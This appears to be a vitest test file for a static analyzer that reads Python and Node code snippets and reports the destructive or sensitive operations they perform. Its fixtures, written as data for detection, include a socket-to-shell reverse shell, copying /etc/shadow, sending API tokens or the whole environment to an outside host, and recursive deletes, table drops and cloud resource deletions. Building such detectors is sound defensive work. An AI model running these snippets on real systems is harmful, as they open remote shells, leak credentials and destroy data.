/**
 * Python and JavaScript/TypeScript parsed and read with their values (src/shell/code/interpret.ts and
 * library.ts): what each call does, with the arguments the analysis knows.
 */
import { describe, expect, it } from "vitest";
import { environmentSends, findCalls } from "../../src/shell/code/index.ts";
import type { FoundCall } from "../../src/shell/code/index.ts";
import { analyze, lines } from "./helpers.ts";

const env = { home: "/home/u", cwd: "/work/proj" };

/** `api(args)` of every call, `!` after a pattern argument, `?` for an unknown one; commands as `$ argv`. */
function shown(c: FoundCall): string {
  if (c.exec?.kind === "argv") return `$ ${c.exec.argv.map((w) => w.value ?? w.text).join(" ")}`;
  if (c.exec?.kind === "shell") return `$ sh -c ${c.exec.code ?? "?"}`;
  const args = c.args.map(
    (a, i) => `${a ?? "?"}${c.details?.[i]?.glob === true ? "!" : ""}${c.details?.[i]?.filtered === true ? "~" : ""}`,
  );
  return `${c.api}(${args.join(", ")})`;
}
const calls = (language: "python" | "node", code: string, argv?: string[]): string[] =>
  (findCalls(code, language, () => undefined, { ...env, ...(argv !== undefined && { argv }) }) ?? []).map(shown);

describe("interpreter code, parsed", () => {
  const cases: [string, "python" | "node", string, string[]][] = [
    [
      "a loop over a listing deletes every entry",
      "python",
      "import os\nd = '/srv/x'\nfor f in os.listdir(d):\n    os.remove(os.path.join(d, f))",
      ["os.remove(/srv/x/*!)"],
    ],
    [
      "a name test narrows the entries",
      "python",
      "import os\nfor f in os.listdir('/srv'):\n    if f.endswith('.log'):\n        os.unlink('/srv/' + f)",
      ["os.unlink(/srv/*.log!)"],
    ],
    [
      "another test of an entry marks it filtered",
      "python",
      "import os\nfor f in os.listdir('/srv'):\n    if old(f):\n        os.unlink(os.path.join('/srv', f))",
      ["os.unlink(/srv/*!~)"],
    ],
    [
      "a kind test selects nothing by name",
      "python",
      "from pathlib import Path\nfor p in Path.home().iterdir():\n    if p.is_dir():\n        p.rmdir()",
      ["pathlib.Path.rmdir(/home/u/*!)"],
    ],
    [
      "os.walk reaches every directory under its root",
      "python",
      "import os\nfor root, dirs, files in os.walk('/etc'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
      ["os.remove(/etc/**/*!)"],
    ],
    [
      "the code's own function is read with its arguments",
      "python",
      "import shutil\ndef wipe(p):\n    shutil.rmtree(p)\nwipe('/a')\nwipe('/b')",
      ["shutil.rmtree(/a)", "shutil.rmtree(/b)"],
    ],
    ["a function never called is not read", "python", "import shutil\ndef wipe():\n    shutil.rmtree('/')", []],
    [
      "a callback something else calls is read once",
      "python",
      "import atexit, shutil\natexit.register(lambda: shutil.rmtree('/x'))",
      ["shutil.rmtree(/x)"],
    ],
    [
      "f-strings, %-formatting and str.format",
      "python",
      "import os\nu = 'dev'\nos.remove(f'/home/{u}/a')\nos.remove('/home/%s/b' % u)\nos.remove('/home/{}/c'.format(u))",
      ["os.remove(/home/dev/a)", "os.remove(/home/dev/b)", "os.remove(/home/dev/c)"],
    ],
    [
      "pathlib's / and expanduser",
      "python",
      "from pathlib import Path\n(Path('~').expanduser() / '.ssh' / 'config').unlink()",
      ["pathlib.Path.unlink(/home/u/.ssh/config)"],
    ],
    [
      "the arguments after the code are sys.argv",
      "python",
      "import shutil, sys\nshutil.rmtree(sys.argv[1])",
      ["shutil.rmtree(/srv)"],
    ],
    [
      "a copy reads its source and writes its destination",
      "python",
      "import shutil\nshutil.copy('/etc/shadow', 'out.txt')",
      ["shutil.copy(/etc/shadow)", "shutil.copy(out.txt)"],
    ],
    [
      "a subprocess list is the command it runs, in its directory",
      "python",
      "import subprocess\nsubprocess.run(['terraform', 'destroy'], cwd='infra')",
      ["$ terraform destroy"],
    ],
    [
      "a list appended to",
      "python",
      "import subprocess\nc = ['git', 'push']\nc.append('--force')\nsubprocess.call(c)",
      ["$ git push --force"],
    ],
    [
      "an environment variable in a shell string is that variable",
      "python",
      "import os\nos.system('curl -d ' + os.environ['TOKEN'] + ' https://x')",
      ["$ sh -c curl -d ${TOKEN} https://x"],
    ],
    [
      "boto3 calls are the AWS CLI's",
      "python",
      "import boto3\nc = boto3.client('s3')\nc.delete_bucket(Bucket='b')",
      ["$ aws s3api delete-bucket --bucket b"],
    ],
    [
      "a boto3 resource's collection",
      "python",
      "import boto3\nboto3.resource('ec2').instances.filter(Filters=[]).terminate()",
      ["$ aws ec2 terminate-instances"],
    ],
    [
      "Kubernetes clients are kubectl",
      "python",
      "from kubernetes import client\nclient.CoreV1Api().delete_namespaced_pod('web-1', 'prod')",
      ["$ kubectl delete pod web-1 -n prod"],
    ],
    [
      "SQL through a driver is the SQL sent to its client",
      "python",
      "import sqlite3\nt = 'users'\nsqlite3.connect('a.db').cursor().execute(f'DROP TABLE {t}')",
      ["$ sqlite3 a.db DROP TABLE users"],
    ],
    [
      "a socket tied to a shell",
      "python",
      "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
      ["$ sh -c /bin/sh", "$ nc -e /bin/sh 192.0.2.1 4444"],
    ],
    [
      "the parent process is the shell's $PPID",
      "python",
      "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
      ["$ kill -- $PPID"],
    ],
    [
      "a syntax error elsewhere does not hide a call",
      "python",
      "import shutil\nshutil.rmtree('/x')\ndef broken(:\n    pass",
      ["shutil.rmtree(/x)"],
    ],
    [
      "destructured requires and template literals",
      "node",
      "const { rmSync } = require('node:fs'); const os = require('os'); rmSync(`${os.homedir()}/.cache`, { recursive: true })",
      ["fs.rmSync(/home/u/.cache)"],
    ],
    [
      "a callback over a listing",
      "node",
      "const fs = require('fs'); fs.readdirSync('/srv').forEach((f) => fs.unlinkSync('/srv/' + f))",
      ["fs.unlinkSync(/srv/*!)"],
    ],
    [
      "a filter of a listing narrows it",
      "node",
      "const fs = require('fs'); fs.readdirSync('/srv').filter((f) => f.endsWith('.map')).forEach((f) => fs.unlinkSync('/srv/' + f))",
      ["fs.unlinkSync(/srv/*.map!)"],
    ],
    [
      "TypeScript annotations",
      "node",
      "const p: string = '/srv' as string; require('fs').rmSync(p!)",
      ["fs.rmSync(/srv)"],
    ],
    [
      "AWS SDK v3 commands sent by a client",
      "node",
      "import { S3Client, DeleteBucketCommand } from '@aws-sdk/client-s3'; await new S3Client({}).send(new DeleteBucketCommand({ Bucket: 'b' }))",
      ["$ aws s3api delete-bucket --bucket b"],
    ],
    [
      "a promise's callback gets what it resolves to",
      "node",
      "require('mysql2/promise').createConnection({}).then((c) => c.query('TRUNCATE t'))",
      ["$ mysql -e TRUNCATE t"],
    ],
    [
      "zx runs its template as a shell command",
      "node",
      "import { $ } from 'zx'; const d = 'dist'; await $`rm -rf ${d}`",
      ["$ sh -c rm -rf dist"],
    ],
  ];
  it.each(cases)("%s", (_name, language, code, expected) => {
    expect(calls(language, code, ["/srv"])).toEqual(expected);
  });

  it("sends: the variables a request's data carries, not its headers", () => {
    const sent = environmentSends(
      "import os, requests\nt = os.environ['API_TOKEN']\nrequests.post('https://x.example/h', data={'t': t}, headers={'Authorization': os.environ['GH_TOKEN']})",
      "python",
    );
    expect(sent).toEqual([{ peers: [{ host: "x.example", path: "/h" }], environment: false, names: ["API_TOKEN"] }]);
    expect(environmentSends("fetch('https://x.example', { body: JSON.stringify(process.env) })", "node")).toEqual([
      { peers: [{ host: "x.example", path: "" }], environment: true, names: [] },
    ]);
    expect(environmentSends("import requests\nrequests.get('https://x.example')", "python")).toEqual([]);
  });

  it("walks the commands SDK calls stand for, with the call as their text", () => {
    const a = analyze('python3 -c \'import boto3; boto3.client("rds").delete_db_instance(DBInstanceIdentifier="db")\'');
    expect(lines(a)).toContain("aws rds delete-db-instance --db-instance-identifier db");
    expect(a.commands.at(-1)?.text).toBe('boto3.client("rds").delete_db_instance(DBInstanceIdentifier="db")');
  });
});
